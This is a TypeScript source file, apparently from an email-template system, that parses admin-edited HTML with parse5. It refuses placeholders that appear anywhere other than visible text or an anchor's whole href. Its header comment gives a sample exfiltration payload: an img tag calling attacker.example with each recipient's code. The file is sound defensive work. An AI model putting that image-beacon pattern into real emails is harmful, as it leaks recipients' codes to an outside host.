/**
 * Where placeholders may sit in an HTML template edited in the admin (or set in config).
 * Substitution alone is not enough there: `<img src="https://attacker.example/?c=<%= CODE %>">`
 * renders a harmless-looking email whose mail client fetches the image, and with it
 * every recipient's code, on opening. So a placeholder may stand in text only, and the
 * link only as the whole `href` of an `<a>` with no `ping`: nothing in the email then
 * sends a value anywhere by itself.
 *
 * Where a placeholder lands is decided as a browser decides it, never by a scanner of our
 * own (three hand-written ones were fooled by quotes in unquoted values, bogus comments
 * and raw-text end tags): the draft is rendered with a unique marker per placeholder,
 * parsed by parse5 (the WHATWG parsing algorithm, as jsdom uses it), and each marker is
 * looked for in the tree. A marker the parser dropped (an end tag's attribute, a second
 * attribute of the same name) counts as misplaced too.
 */
import { defaultTreeAdapter, html as spec, parse, parseFragment, type DefaultTreeAdapterMap } from 'parse5';
import { PLACEHOLDER } from './template';

type Node = DefaultTreeAdapterMap['node'];
type Element = DefaultTreeAdapterMap['element'];

/**
 * Raw-text and escapable raw-text elements, in any namespace (`<svg><style>` is CSS too):
 * their content is not text a reader sees; CSS can fetch (url(), @import), scripts run.
 */
const RAW_TEXT = new Set(['style', 'script', 'textarea', 'title', 'xmp', 'iframe', 'noembed', 'noframes', 'noscript', 'plaintext']);

interface Marker {
  name: string;
  /** Seen where its value stays in the email as text, or as the link itself. */
  safe: boolean;
  /** Seen somewhere else (its reason is already among the problems). */
  refused: boolean;
}

type Problems = Set<string>;

/** Each misplaced placeholder, as a reason the admin page shows and the server refuses. */
export function findMarkupProblems(html: string): string[] {
  const placeholders = [...html.matchAll(PLACEHOLDER)];
  if (placeholders.length === 0) return [];
  const { rendered, markers } = renderWithMarkers(html, placeholders);
  const problems: Problems = new Set();
  // A mail client parses the email as a document, a webmail often as a fragment inside
  // its own page, with scripting on or off (which decides what <noscript> holds): every
  // reading must find each placeholder in a safe place.
  const page = defaultTreeAdapter.createElement('div', spec.NS.HTML, []);
  const readings = [
    parse(rendered, { scriptingEnabled: true }),
    parse(rendered, { scriptingEnabled: false }),
    parseFragment(page, rendered, { scriptingEnabled: false }),
  ];
  for (const tree of readings) {
    for (const marker of markers.values()) marker.safe = false;
    walk(tree, [], markers, problems);
    for (const marker of markers.values()) {
      if (!marker.safe && !marker.refused) problems.add(`<%= ${marker.name} %> where an HTML parser drops or moves it`);
    }
  }
  return [...problems];
}

function refuse(marker: Marker, problem: string, problems: Problems): void {
  marker.refused = true;
  problems.add(problem);
}

/**
 * The draft with each placeholder replaced by a marker of lowercase letters and digits
 * (unchanged by the parser's lowercasing of names, never escaped), found nowhere else.
 */
function renderWithMarkers(html: string, placeholders: RegExpMatchArray[]): { rendered: string; markers: Map<string, Marker> } {
  const lower = html.toLowerCase();
  let stem = 'plmk';
  for (let n = 0; lower.includes(stem); n += 1) stem = `plmk${n}x`;
  const markers = new Map<string, Marker>();
  let index = 0;
  const rendered = html.replace(PLACEHOLDER, (_match, name: string) => {
    const marker = `${stem}q${index}q`;
    index += 1;
    markers.set(marker, { name, safe: false, refused: false });
    return marker;
  });
  return { rendered, markers };
}

function walk(node: Node, ancestors: Element[], markers: Map<string, Marker>, problems: Problems): void {
  if (node.nodeName === '#text' && 'value' in node) {
    const rawParent = ancestors.find((element) => RAW_TEXT.has(element.tagName.toLowerCase()));
    for (const marker of markersIn(node.value, markers)) {
      if (rawParent) refuse(marker, `<%= ${marker.name} %> inside <${rawParent.tagName.toLowerCase()}>`, problems);
      else marker.safe = true;
    }
    return;
  }
  if (node.nodeName === '#comment' && 'data' in node) {
    for (const marker of markersIn(node.data, markers)) refuse(marker, `<%= ${marker.name} %> inside a comment`, problems);
    return;
  }
  if (node.nodeName === '#documentType' && 'name' in node) {
    const doctype = `${node.name} ${node.publicId} ${node.systemId}`;
    for (const marker of markersIn(doctype, markers)) refuse(marker, `<%= ${marker.name} %> inside the doctype`, problems);
    return;
  }
  if ('tagName' in node) checkElement(node, markers, problems);
  const inside = 'tagName' in node ? [...ancestors, node] : ancestors;
  if ('childNodes' in node) for (const child of node.childNodes) walk(child, inside, markers, problems);
  // A <template>'s content is a fragment of its own, not a child.
  if ('content' in node && node.content) walk(node.content, inside, markers, problems);
}

/** Markers in a tag: allowed only as the whole href of an HTML <a> with no ping, and for URL only. */
function checkElement(element: Element, markers: Map<string, Marker>, problems: Problems): void {
  const inTag = (marker: Marker) =>
    refuse(marker, `<%= ${marker.name} %> inside a tag (only <a href="<%= URL %>"> may hold a placeholder there)`, problems);
  for (const marker of markersIn(element.tagName, markers)) inTag(marker);
  for (const attribute of element.attrs) {
    for (const marker of markersIn(`${attribute.prefix ?? ''} ${attribute.name}`, markers)) inTag(marker);
    const found = markersIn(attribute.value, markers);
    if (found.length === 0) continue;
    const whole = markers.get(attribute.value);
    const isLink = whole?.name === 'URL' && attribute.name === 'href' && !attribute.namespace && isHtmlAnchor(element);
    if (!whole || !isLink) {
      for (const marker of found) inTag(marker);
    } else if (element.attrs.some((other) => other.name === 'ping')) {
      refuse(whole, '<%= URL %> in an <a> with a ping attribute (a click would post the link elsewhere)', problems);
    } else {
      whole.safe = true;
    }
  }
}

function isHtmlAnchor(element: Element): boolean {
  return element.tagName === 'a' && element.namespaceURI === spec.NS.HTML;
}

function markersIn(text: string, markers: Map<string, Marker>): Marker[] {
  if (!text) return [];
  const found: Marker[] = [];
  for (const [marker, entry] of markers) if (text.includes(marker)) found.push(entry);
  return found;
}
